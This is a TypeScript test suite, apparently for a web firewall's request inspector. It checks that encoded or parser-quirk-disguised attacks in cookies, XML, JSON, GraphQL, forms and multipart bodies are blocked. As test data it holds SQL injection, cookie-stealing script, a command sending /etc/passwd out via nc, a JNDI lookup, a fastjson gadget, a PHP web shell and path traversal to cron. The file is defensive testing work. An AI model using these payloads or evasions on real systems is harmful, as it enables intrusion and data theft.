// What parsers of backends read and a straightforward reading does not show. The e2e suite `parsers` found
// most of these by giving generated requests to the parsers themselves.
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { inspect } from '../src/inspect.ts'

const SQL = "1' UNION SELECT username,password FROM users-- -"
const FORM = 'application/x-www-form-urlencoded'

function post(body: string | Uint8Array, type: string): string {
  return inspect({ method: 'POST', target: '/', headers: ['content-type', type], body: Buffer.from(body) })
    .verdict
}

function cookie(value: string): string {
  return inspect({ method: 'GET', target: '/', headers: ['cookie', value] }).verdict
}

function octal(text: string): string {
  return text.replace(/\W/g, letter => `\\${letter.charCodeAt(0).toString(8).padStart(3, '0')}`)
}

describe('an attack in a cookie', () => {
  for (const [what, attack] of [
    ['SQL', SQL],
    ['markup', '<script>alert(document.cookie)</script>'],
    ['a command', '; cat /etc/passwd | nc 10.1.1.1 99'],
  ] as const)
    test(`is read in quotes where every sign is escaped: ${what}`, () => {
      for (const around of [(text: string) => `id="${text}"`, (text: string) => `a=1; id = "${text}"; b=2`])
        assert.equal(cookie(around(octal(attack))), 'block')
    })

  test('is read between the outer quotes, whatever quotes stand inside (Django, Werkzeug)', () => {
    for (const before of ['"', '\\0"', 'a"b"'])
      assert.equal(cookie(`a=1; id="${before}${octal(SQL)}"; b=2`), 'block', before)
  })

  test('is read in a value without a name', () => {
    assert.equal(cookie(`"${octal(SQL)}"`), 'block')
    assert.equal(cookie(`="${octal(SQL)}";a=1`), 'block')
  })

  test('is read where plus signs stand for spaces, also in the alphabet of base64', () => {
    assert.equal(cookie('v=, id = 1%27+UNION+SELECT+username%2Cpassword+FROM+users--+-'), 'block')
    assert.equal(cookie('id=1+UNION+SELECT+password+FROM+users'), 'block')
    assert.equal(cookie('a=1; id=7+UNION+ALL+SELECT+Name+FROM+Users9'), 'block')
  })

  test('without a sign of its own is read wherever a parser begins a value', () => {
    for (const value of [
      'id="1 UNION SELECT password FROM users", b="2"',
      '="1 UNION SELECT password FROM users", a="',
      'a=1, id=1%20UNION%20SELECT%20password%20FROM%20users',
      'id=j:["1 UNION SELECT password FROM users"]',
      `id=${encodeURIComponent('j:{"a":"1 UNION SELECT password FROM users"}')}`,
    ])
      assert.equal(cookie(value), 'block', value)
  })

  test('but honest cookies in quotes, with commas or with JSON pass', () => {
    for (const value of [
      'v=1, a=b, c="d e"',
      'cart=j:{"items":[1,2],"note":"one, two; three"}',
      'theme="dark"; lang="en\\054us"',
      'q="a; b"; c="x+y z"',
      'j="{\\"a\\":1}"',
    ])
      assert.equal(cookie(value), 'pass', value)
  })
})

describe('an address', () => {
  test('is read as one in upper and lower case, though it is in the alphabet of base64', () => {
    for (const target of [
      '/NaCoS/v1/AuTh/UsErS',
      '/Nacos/V1/Auth/Users',
      '/OA_HTML/configurator/UiServlet',
      '/MIfs/Aad/Api/V2/AuThorized/USers',
      '/AcTuAtOr/GateWay/RouTes',
    ])
      assert.equal(inspect({ method: 'GET', target, headers: [] }).verdict, 'block', target)
  })

  test('may hold base64', () => {
    for (const target of [
      '/share/QWxhZGRpbjpvcGVuIHNlc2FtZQ',
      '/t/dGhpcyBpcyBhIGxvbmdlciB0ZXh0/b3BlbiBzZXNhbWU',
      '/blob/AAAA+qx/AAAA/Zm9vYmFy',
    ])
      assert.equal(inspect({ method: 'GET', target, headers: [] }).verdict, 'pass', target)
  })
})

describe('a text of XML', () => {
  for (const [what, break_] of [
    ['a comment', '<!-- -->'],
    ['a section of character data', '<![CDATA[]]>'],
    ['an instruction', '<?x?>'],
    ['an element', '<b/>'],
    ['an element with a text of its own', '<b>zz</b>'],
    ['a reference', '&#x20;'],
  ] as const)
    test(`is one text though ${what} parts it`, () => {
      const text = SQL.replaceAll(/(?<=[UESFO])(?=[NLRE])/g, break_ === '&#x20;' ? '' : break_)
      const parted = text.replaceAll(' ', break_ === '&#x20;' ? break_ : ' ')
      for (const type of ['application/xml', 'text/xml', 'application/soap+xml', 'text/plain'])
        assert.equal(post(`<a><id>${parted}</id></a>`, type), 'block', type)
    })

  test('is read in a section of character data that is broken', () => {
    assert.equal(post(`<a><id><![CDATA [${SQL}]]></id></a>`, 'application/xml'), 'block')
  })

  test('is read behind a quote that opens nothing', () => {
    const text = `<id>${[...SQL].map(letter => `&#${letter.charCodeAt(0)};`).join('')}</id>`
    for (const [before, behind] of [
      ["<?x it's?><a>", '</a>'],
      ['<?x "?><a>', '</a><?x "?>'],
      ["<!DOCTYPE a [<!-- it's -->]><a>", '</a>'],
      ["<!DOCTYPE a [<?x it's?>]><a>", '</a>'],
      ['<!DOCTYPE a [<!ELEMENT a ANY><!-- 6" -->]><a>', '</a>'],
      ["<a><!-- it's -->", '</a>'],
      ["<a><b c=it's>", '</b></a>'],
      ['<a b="x\'>y" c=\'>"\'>', '</a>'],
    ] as const)
      assert.equal(post(`${before}${text}${behind}`, 'application/xml'), 'block', before)
  })

  test('is one text to readers of all that an element holds', () => {
    const words = "1' UNI|ON SEL|ECT username,pass|word FR|OM users-- -".split('|')
    assert.equal(post(`<a>${words.map(word => `<b>${word}</b>`).join('')}</a>`, 'application/xml'), 'block')
  })

  test('passes where honest pieces stand side by side', () => {
    const mixed = '<p>Select <b>one</b> from <i>the union</i> of <code>users</code>; drop us a line.</p>'
    assert.equal(post(mixed, 'application/xml'), 'pass')
    assert.equal(post("<r><id>1</id><name>O'Brien</name><op>or</op><n>1</n></r>", 'text/xml'), 'pass')
  })
})

describe('a string of JSON', () => {
  const cased = SQL.replaceAll(/[A-Z,-]/g, '\\$&')
  test('is read as by parsers that take any letter behind a backslash (json of Ruby)', () => {
    for (const attack of [cased, '\\; c\\at /\\etc/p\\asswd | \\nc', '<scr\\ipt>\\alert(1)</scr\\ipt>'])
      for (const body of [`{"id":"${attack}"}`, `["${attack}"]`, `{"${attack}":1}`])
        assert.equal(post(body, 'application/json'), 'block', body)
  })

  test('is read with codes of two digits (fastjson)', () => {
    const coded = [...SQL].map(letter => `\\x${letter.charCodeAt(0).toString(16)}`).join('')
    assert.equal(post(`{"id":"${coded}"}`, 'application/json'), 'block')
    assert.equal(post(`{"\\x40type":"com.sun.rowset.JdbcRowSetImpl","a":1}`, 'application/json'), 'block')
  })

  test('is read so under any type, whatever stands before it', () => {
    for (const before of ['true', 'null', '-1', '7.5'])
      assert.equal(post(`[${before},"${cased}"]`, 'application/x-json-stream'), 'block', before)
  })

  test('is read so when it is long', () => {
    assert.equal(post(`{"id":"${'a '.repeat(20_000)}${cased}"}`, 'application/json'), 'block')
  })

  const QUOTED = [
    SQL,
    '1 UNION SELECT password FROM users',
    '<script>alert(1)</script>',
    '; cat /etc/passwd | nc 10.1.1.1 99',
  ]
  const around = (text: string): string[] => [
    `{'id':'${text}'}`,
    `{id:'${text}'}`,
    `{id:1,b:{c:['${text}']}}`,
    `{"a":"6' by 4'","id":'${text}'}`,
    `/* it's */{"id":/* it's */'${text}'}`,
    `query:'${text}'}`,
  ]
  test('is read in single quotes, behind names without quotes and beside comments (Newtonsoft.Json, Gson)', () => {
    for (const attack of QUOTED)
      for (const text of [
        attack.replaceAll("'", "\\'"),
        attack.replace(/[^a-z ]/gi, letter => `\\u00${letter.charCodeAt(0).toString(16)}`),
      ])
        for (const body of around(text)) assert.equal(post(body, 'application/json'), 'block', body)
  })

  test('in single quotes may hold what it likes that attacks nothing', () => {
    for (const body of around('say "hi" to Anne, and select a union of both'))
      assert.equal(post(body, 'application/json'), 'pass', body)
  })

  test('may hold backslashes of other things', () => {
    for (const body of [
      '{"file":"C:\\Temp\\My Documents"}',
      '{"pattern":"^\\d+\\s*(\\w+)$"}',
      '{"tex":"\\alpha + \\sum_i x_i"}',
    ])
      assert.equal(post(body, 'application/json'), 'pass', body)
  })
})

describe('what begins like a GraphQL document', () => {
  const ATTACKS = [
    SQL,
    '<script>alert(1)</script>',
    '; cat /etc/passwd | nc 10.1.1.1 99',
    '${jndi:ldap://x.example/a}',
  ]
  test('is read as a text where it goes on as something else', () => {
    for (const attack of ATTACKS)
      for (const body of [
        `{id:'${attack}'}`,
        `query { a } ${attack}`,
        `mutation x{}\n${attack}`,
        `{ a } # ${attack}`,
        `{a(b:"c")}${attack}`,
      ])
        for (const type of ['text/plain', 'application/json', 'application/graphql', 'application/x-other'])
          assert.equal(post(body, type), 'block', `${type} ${body}`)
  })

  test('is read as one otherwise', () => {
    for (const body of [
      '{ user(id: 1, name: "x") { id ... on Admin { rights } } }',
      'query Q($id: ID! = "1", $n: [Int!]) @a(b: {c: $id, d: -1.5e+3}) { a: user(id: $id) { ...F } } fragment F on User { id }',
      "{ a } # it's a comment; and or union",
      'mutation { note(text: """# A heading\nIt\'s one;\n## Another; and more""") { id } }',
    ])
      assert.equal(post(body, 'application/graphql'), 'pass', body)
  })
})

describe('bytes that are not text', () => {
  const CONTROLS = ['\0', '\u0001', 'x\0'].map(unit => unit.repeat(4_000))
  const TYPES = ['application/json', 'text/plain', 'application/octet-stream', 'application/pdf', '']
  test('are read as the JSON that they begin with: the decoder of Go and Jackson leave what follows', () => {
    for (const controls of CONTROLS)
      for (const type of TYPES)
        for (const body of [
          `{"id":"${SQL}"}${controls}`,
          `{"a":1}\n{"id":"${SQL}"}${controls}`,
          `{"id":"${SQL}","note":"${controls}"}`,
          `{"note":"${controls}","id":"${SQL}"}`,
          `[1,{'id':'${SQL.replace("'", "\\'")}'}]${controls}`,
        ])
          assert.equal(post(body, type), 'block', type)
  })

  test('are read as the XML, and as the text, that they begin with', () => {
    for (const controls of CONTROLS) {
      for (const body of [
        `<?x it's?><a><id>${SQL}</id></a>${controls}`,
        `<a><id>${SQL}</id></a>${controls}`,
        `<a b="${controls}"><id>${SQL}</id></a>`,
      ])
        assert.equal(post(body, 'application/xml'), 'block')
      assert.equal(post(`${'a word '.repeat(100)}${SQL}${controls}`, 'text/plain'), 'block')
    }
  })

  test('pass where a message begins with JSON and goes on with a file', () => {
    const noise = seededBytes(7, 20_000)
    for (const head of [
      '{"event_id":"9ec7"}\n{"type":"replay_recording","length":20000}\n',
      '{"v":1}',
      '[1,2]',
    ])
      for (const type of ['application/x-sentry-envelope', 'application/json', 'application/octet-stream'])
        assert.equal(post(Buffer.concat([Buffer.from(head), noise]), type), 'pass', `${type} ${head}`)
  })
})

function seededBytes(seed: number, length: number): Buffer {
  let state = seed
  return Buffer.from(
    Array.from({ length }, () => {
      state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0
      return state >>> 24
    }),
  )
}

describe('a form', () => {
  test('is read behind semicolons, as old parsers part its fields', () => {
    for (const form of [
      'a=b;id=1+UNION+SELECT+password+FROM+users',
      'a=b&amp;id=1+UNION+SELECT+password+FROM+users',
    ]) {
      assert.equal(post(form, FORM), 'block', form)
      assert.equal(inspect({ method: 'GET', target: `/?${form}`, headers: [] }).verdict, 'block', form)
    }
    for (const form of ['a=x;y;z&b=1', 'style=color:red;width=3&amp;lang=en'])
      assert.equal(post(form, FORM), 'pass', form)
  })

  test('is read from its first field on, though it is called JSON too', () => {
    assert.equal(post('id=1+UNION+SELECT+password+FROM+users&b=1', `${FORM}, application/json`), 'block')
  })

  const attack = encodeURIComponent(SQL).replaceAll("'", '%27')

  for (const first of ['{"a":1}', '<html>', '[1]'])
    test(`is read behind ${first}, whatever the name of a later field`, () => {
      for (const name of ['id', 'id\0', 'id%00', '', ' id', 'número', 'a[b]'])
        assert.equal(post(`${first}&x=1&${name}=${attack}`, FORM), 'block', JSON.stringify(name))
    })

  test('behind what looks like JSON is read in the names of its fields, and where it has no name', () => {
    for (const first of ['{"a":1}', '[1]', '{"a":"b&c=d"}'])
      for (const rest of [`${attack}=1`, `a[${SQL}]=1`, attack, `b=2&${attack}`])
        for (const type of [FORM, `${FORM}, application/json`])
          assert.equal(post(`${first}&${rest}`, type), 'block', `${first}&${rest}`)
    assert.equal(post('{"text":"Tom & Jerry, fish & chips, x=1&y=2"}', FORM), 'pass')
    assert.equal(post('{"index":{}}\n{"title":"Tom & Jerry"}\n', FORM), 'pass')
  })

  test('under a coding is read as it was sent too, also where the coding ends early', () => {
    for (const coding of ['gzip', 'deflate', 'br', 'zstd', 'x-unknown'])
      for (const sent of [`{"a":1}&amp;=${attack}&b=1`, `a=1&id\0x=${attack}`, `&id=${attack}`]) {
        const headers = ['content-type', FORM, 'content-encoding', coding]
        const { verdict } = inspect({ method: 'POST', target: '/', headers, body: Buffer.from(sent) })
        assert.equal(verdict, 'block', `${coding}: ${sent}`)
      }
  })

  test('whose first pair happens to be the start of a compressed stream is read from that pair on', () => {
    const script = [...'<script>alert(document.cookie)</script>']
    const value = script.map(letter => `%${letter.charCodeAt(0).toString(16)}`).join('')
    const headers = ['content-type', FORM, 'content-encoding', 'br']
    const body = Buffer.from(`a[b]\0[]=${value}&user[name]="&q=%\r\ni;d=<p>`)
    assert.equal(inspect({ method: 'POST', target: '/', headers, body }).verdict, 'block')
  })

  test('in a charset that hides ASCII from whoever does not decode it is refused', () => {
    for (const charset of [
      'utf-7',
      'UTF7',
      'unicode-1-1-utf-7',
      'iso-2022-jp',
      'hz-gb-2312',
      'unicode_escape',
      'raw-unicode-escape',
      'cp037',
      'ibm500',
      'x-IBM1026',
      'cp1026',
      'cp273',
      'utf-32',
    ])
      for (const type of [`${FORM}; charset=${charset}`, `${FORM} ; CHARSET = "${charset}"`])
        assert.equal(post('a=1', type), 'too-big', type)
  })

  test('in a charset in which ASCII is ASCII is read', () => {
    for (const charset of ['utf-8', 'UTF8', 'iso-8859-15', 'windows-1252', 'cp1251', 'ibm866', 'shift_jis'])
      for (const more of ['', 'gbk', 'big5', 'euc-kr', 'koi8-r', 'x-user-defined', 'binary', 'none']) {
        const type = `${FORM}; charset=${more || charset}`
        assert.equal(post('a=1', type), 'pass', type)
        assert.equal(post(`a=${attack}`, type), 'block', type)
      }
  })
})

describe('a document in a charset that cannot be read', () => {
  test('is refused, by the label and by its own declaration', () => {
    assert.equal(post('{"a":1}', 'application/json; charset=utf-7'), 'too-big')
    assert.equal(post('<?xml version="1.0" encoding="utf-7"?><a>+AGE-</a>', 'text/xml'), 'too-big')
    assert.equal(post("<?xml version='1.0' encoding='cp1026'?><a/>", 'application/xml'), 'too-big')
  })

  test('passes in one that can', () => {
    assert.equal(post('<?xml version="1.0" encoding="ISO-8859-1"?><a>b</a>', 'text/xml'), 'pass')
    assert.equal(post('{"a":1}', 'application/json; charset=utf-16'), 'pass')
  })
})

describe('JSON in UTF-16 without a mark', () => {
  test('is read whatever it begins with', () => {
    for (const json of [JSON.stringify(SQL), JSON.stringify({ é: SQL }), JSON.stringify([SQL])]) {
      const bytes = Buffer.from(json, 'utf16le')
      for (const body of [bytes, Buffer.from(bytes).swap16()])
        assert.equal(post(body, 'application/json'), 'block', json)
    }
  })

  test('is not what a script is taken for that a server would run', () => {
    const script = Buffer.from('[\0 \0 \0 \0 \0 \0 \0 \0<?php system($_GET["c"]); ?>')
    const put = { method: 'PUT', target: '/files/x.php', body: script }
    assert.equal(inspect({ ...put, headers: ['content-type', 'application/octet-stream'] }).verdict, 'block')
  })
})

describe('a multipart body', () => {
  const type = 'multipart/form-data; boundary=x'
  const field = 'Content-Disposition: form-data; name="id"'

  test('with a value in base64 is read as Django decodes it: what is not base64 is dropped', () => {
    const coded = Buffer.from(SQL).toString('base64')
    for (const value of [coded, `${coded}:`, coded.replace(/(.{5})/g, '$1 '), `!${coded}`])
      assert.equal(
        post(`--x\r\n${field}\r\nContent-Transfer-Encoding: base64\r\n\r\n${value}\r\n--x--`, type),
        'block',
        value,
      )
  })

  test('with a file that names no type is read as formidable reads it, as a field', () => {
    const file = (content: string | Buffer, more = ''): Buffer =>
      Buffer.concat([
        Buffer.from(`--x\r\n${field}; filename="a.txt"\r\n${more}\r\n`),
        Buffer.from(content),
        Buffer.from('\r\n--x--\r\n'),
      ])
    for (const attack of [SQL, '<script>alert(1)</script>', '; cat /etc/passwd'])
      for (const more of ['', 'Content-Type:\r\n', 'X-Type: text/plain\r\n'])
        assert.equal(post(file(attack, more), type), 'block', attack)
    assert.equal(post(file(SQL, 'Content-Type: text/plain\r\n'), type), 'pass')
    const table = Array.from({ length: 500 }, (_, row) => `${row};O'Brien ${row};a@b.example;"x, y"`)
    assert.equal(post(file(table.join('\n')), type), 'pass')
    assert.equal(post(file(Buffer.from(table.map((_, at) => (at * 7919) % 256))), type), 'pass')
  })

  test('with an encoded word for a name is read as Tomcat decodes it', () => {
    const word = `=?utf-8?B?${Buffer.from('../../../etc/cron.d/x').toString('base64')}?=`
    const quoted = '=?iso-8859-1?Q?=2E=2E=2F=2E=2E=2F=2E=2E=2Fetc=2Fcron=2Ed=2Fx?='
    for (const name of [word, quoted]) {
      const part = `${field.replace('id', 'f')}; filename="${name}"\r\n\r\nhello`
      assert.equal(post(`--x\r\n${part}\r\n--x--\r\n`, type), 'block', name)
    }
  })

  test('is read outside of its parts, whatever the head there is called', () => {
    for (const head of ['Content-D: form-data; name="id"', 'Cont\u000bent-Disposition: a; b', 'X'])
      for (const body of [
        `--y\r\n--x--\r\n${head}\r\n\r\n${SQL}\r\n--x--\r\n`,
        ` --x\r\n${head}\r\n\r\n${SQL}\r\n--x--`,
        `${head}\r\n\r\n${SQL}\r\n--x\r\n${field}\r\n\r\n1\r\n--x--\r\n`,
      ])
        assert.equal(post(body, type), 'block', body)
  })

  test('may have a preamble and an epilogue', () => {
    const body = `This is a multi-part message in MIME format.\r\n--x\r\n${field}\r\n\r\n1\r\n--x--\r\nGoodbye\r\n`
    assert.equal(post(body, type), 'pass')
  })

  test('with a part in a charset that cannot be read is refused', () => {
    const part = `${field}\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+AGE-`
    assert.equal(post(`--x\r\n${part}\r\n--x--\r\n`, type), 'too-big')
  })
})
